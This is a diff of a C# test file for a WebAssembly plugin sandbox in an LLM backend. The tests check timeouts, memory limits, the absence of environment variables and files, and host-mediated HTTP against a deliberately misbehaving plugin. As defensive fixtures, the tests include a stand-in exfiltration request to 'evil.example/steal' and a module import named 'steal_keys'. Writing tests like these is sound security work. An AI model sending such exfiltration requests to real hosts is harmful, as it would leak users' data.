@@ -1,19 +1,22 @@
 using System.Buffers.Binary;
 using System.Diagnostics;
+using System.Text;
 using Mostlyucid.LlmBackend.Tests.TestSupport;
+using Mostlyucid.LlmBackend.Wasm.Abi;
 using Mostlyucid.LlmBackend.Wasm.Carriers;
-using Mostlyucid.LlmBackend.Wasm.Sidecar;
+using Mostlyucid.LlmBackend.Wasm.InProcess;
+using Mostlyucid.LlmBackend.Wasm.Runtime;
 
 namespace Mostlyucid.LlmBackend.Tests.Wasm;
 
 /// <summary>
 /// The sandbox's guarantees, each against a plugin that breaks it on purpose (Wasm/Plugins/misbehaving.wat): a time
-/// limit per call, a memory cap, traps that end one call only, parallel instances, a sidecar that restarts after a crash,
-/// and a sidecar that sees none of the host's environment.
+/// limit per call that frees the thread, a memory cap, traps that end one call only, parallel instances, no environment,
+/// no files, no HTTP but through the host, and modules compiled once.
 /// </summary>
 public sealed class SandboxTests : IAsyncLifetime
 {
-    private readonly NodeSidecarRuntime _runtime = new();
+    private readonly WasmtimeRuntime _runtime = new();
 
     public ValueTask InitializeAsync() => ValueTask.CompletedTask;
 
@@ -60,12 +63,12 @@ public sealed class SandboxTests : IAsyncLifetime
         var plugin = await LoadAsync(instances: 2, timeout: TimeSpan.FromSeconds(20));
         await plugin.CallAsync("busy", ReadOnlyMemory<byte>.Empty, null, CancellationToken.None); // warm the first instance
 
-        var calls = Enumerable.Range(0, 2).Select(async _ =>
+        var calls = Enumerable.Range(0, 2).Select(_ => Task.Run(async () =>
         {
             var started = Stopwatch.GetTimestamp();
             var result = await plugin.CallAsync("busy", ReadOnlyMemory<byte>.Empty, null, CancellationToken.None);
             return (result.Instance!.Value.Id, Started: started, Ended: Stopwatch.GetTimestamp());
-        }).ToList();
+        })).ToList();
         var results = await Task.WhenAll(calls);
 
         Assert.NotEqual(results[0].Id, results[1].Id);
@@ -73,30 +76,75 @@ public sealed class SandboxTests : IAsyncLifetime
     }
 
     [Fact]
-    public async Task ASidecarThatDies_FailsTheCallsInFlight_AndIsRestartedForTheNext()
+    public async Task ALoopingCall_GivesItsThreadBack_AtItsTimeLimit_WhileOtherCallsKeepRunning()
     {
-        var plugin = await LoadAsync(timeout: TimeSpan.FromSeconds(30));
-        var inFlight = plugin.CallAsync("spin", ReadOnlyMemory<byte>.Empty, null, CancellationToken.None).AsTask();
-        await Task.Delay(300);
+        var plugin = await LoadAsync(timeout: TimeSpan.FromMilliseconds(200), instances: 2);
+        var looping = Task.Run(async () =>
+        {
+            var clock = Stopwatch.StartNew();
+            var failure = await Assert.ThrowsAsync<PluginCallException>(() => plugin.CallAsync("spin", ReadOnlyMemory<byte>.Empty, null, CancellationToken.None).AsTask());
+            return (failure.Failure, clock.Elapsed);
+        });
 
-        Process.GetProcessById(_runtime.ProcessId!.Value).Kill();
-        var failure = await Assert.ThrowsAsync<PluginCallException>(() => inFlight.WaitAsync(TimeSpan.FromSeconds(10)));
+        // Meanwhile the other instance answers.
+        Assert.Equal(0, await CountAsync(plugin, "env_count"));
+        var (failure, elapsed) = await looping.WaitAsync(TimeSpan.FromSeconds(10));
 
-        Assert.Equal(PluginFailure.RuntimeCrashed, failure.Failure);
-        Assert.True(await PagesAfterGrowingAsync(plugin) > 1);
-        Assert.Equal(2, _runtime.Generation);
+        Assert.Equal(PluginFailure.Timeout, failure);
+        Assert.InRange(elapsed, TimeSpan.FromMilliseconds(180), TimeSpan.FromSeconds(2));
     }
 
     [Fact]
-    public async Task TheSidecar_SeesNoneOfTheHostsEnvironment()
+    public async Task ThePlugin_SeesNoEnvironmentAndNoFiles()
     {
         Environment.SetEnvironmentVariable("LLMB_SANDBOX_TEST_SECRET", "do-not-leak-4711");
+        var plugin = await LoadAsync();
+
+        Assert.Equal(0, await CountAsync(plugin, "env_count"));
+        Assert.Equal(0, await CountAsync(plugin, "preopen_count"));
+    }
+
+    [Fact]
+    public async Task HttpThePluginAsksFor_GoesThroughTheHost_OrIsRefused()
+    {
+        var request = Encoding.UTF8.GetBytes("""{"req":{"head":{"method":"GET","uri":"https://evil.example/steal","headers":{},"version":"HTTP/1.1"},"body":[]}}""");
+        var refusing = await LoadAsync();
+        var refused = HttpWire.ParseResponse((await refusing.CallAsync("fetch", request, null, CancellationToken.None)).Output.Span);
+        Assert.Equal(403, refused.Status);
+
+        var http = new RecordingHttp();
+        var plugin = await _runtime.LoadAsync(new WasmPluginLoadRequest { Key = "fetching", Path = WasmSamples.Misbehaving, Http = http }, CancellationToken.None);
+        var answered = HttpWire.ParseResponse((await plugin.CallAsync("fetch", request, null, CancellationToken.None)).Output.Span);
+
+        Assert.Equal(418, answered.Status);
+        Assert.Equal("https://evil.example/steal", Assert.Single(http.Uris));
+    }
+
+    [Fact]
+    public async Task AModule_IsCompiledOnce_ForEveryLoadOfTheSameFile()
+    {
+        await LoadAsync();
         await LoadAsync();
 
-        var environment = await File.ReadAllTextAsync($"/proc/{_runtime.ProcessId}/environ");
+        Assert.Equal(1, _runtime.Compilations);
+    }
 
-        Assert.DoesNotContain("do-not-leak-4711", environment, StringComparison.Ordinal);
-        Assert.DoesNotContain("LLMB_SANDBOX_TEST_SECRET", environment, StringComparison.Ordinal);
+    [Fact]
+    public async Task AModuleImportingWhatTheHostLacks_IsRefused_NamingTheImports()
+    {
+        var path = Path.Combine(Path.GetTempPath(), $"llmb-unknown-import-{Guid.NewGuid():N}.wasm");
+        await File.WriteAllBytesAsync(path, WatModule("""(module (import "env" "steal_keys" (func)) (func (export "name") (result i32) (i32.const 0)))"""));
+        try
+        {
+            var failure = await Assert.ThrowsAsync<PluginCallException>(() => _runtime.LoadAsync(new WasmPluginLoadRequest { Key = "unknown", Path = path }, CancellationToken.None));
+
+            Assert.Equal(PluginFailure.LoadFailed, failure.Failure);
+            Assert.Contains("env::steal_keys", failure.Message, StringComparison.Ordinal);
+        }
+        finally
+        {
+            File.Delete(path);
+        }
     }
 
     [Fact]
@@ -117,6 +165,17 @@ public sealed class SandboxTests : IAsyncLifetime
         Assert.True(offsets.Skip(100).Max() <= early, $"the blocks keep growing: call 20 at {early}, calls 100–120 up to {offsets.Skip(100).Max()}");
     }
 
+    private static byte[] WatModule(string text)
+    {
+        return Wasmtime.Module.ConvertText(text);
+    }
+
+    private static async Task<long> CountAsync(IPluginCarrier plugin, string export)
+    {
+        var result = await plugin.CallAsync(export, ReadOnlyMemory<byte>.Empty, null, CancellationToken.None);
+        return (long)BinaryPrimitives.ReadUInt64LittleEndian(result.Output.Span);
+    }
+
     private static async Task<long> PagesAfterGrowingAsync(IPluginCarrier plugin)
     {
         var result = await plugin.CallAsync("grow", ReadOnlyMemory<byte>.Empty, null, CancellationToken.None);
@@ -127,4 +186,19 @@ public sealed class SandboxTests : IAsyncLifetime
         _runtime.LoadAsync(
             new WasmPluginLoadRequest { Key = "misbehaving", Path = WasmSamples.Misbehaving, CallTimeout = timeout ?? TimeSpan.FromSeconds(10), MemoryLimitBytes = memory, Instances = instances },
             CancellationToken.None);
+
+    /// <summary>Answers every request with 418 and remembers where it was going.</summary>
+    private sealed class RecordingHttp : IPluginHttp
+    {
+        public List<string> Uris { get; } = new();
+
+        public Task<byte[]> SendAsync(ReadOnlyMemory<byte> envelope, CancellationToken cancellationToken)
+        {
+            Uris.Add(HttpWire.ParseRequest(envelope).Uri.ToString());
+            return Task.FromResult(Encoding.UTF8.GetBytes(HttpWire.ResponseEnvelope(418, new Dictionary<string, string>(), "teapot"u8)));
+        }
+
+        public Task<PluginHttpResponse> OpenStreamAsync(ReadOnlyMemory<byte> envelope, CancellationToken cancellationToken) =>
+            throw new InvalidOperationException("not used");
+    }
 }
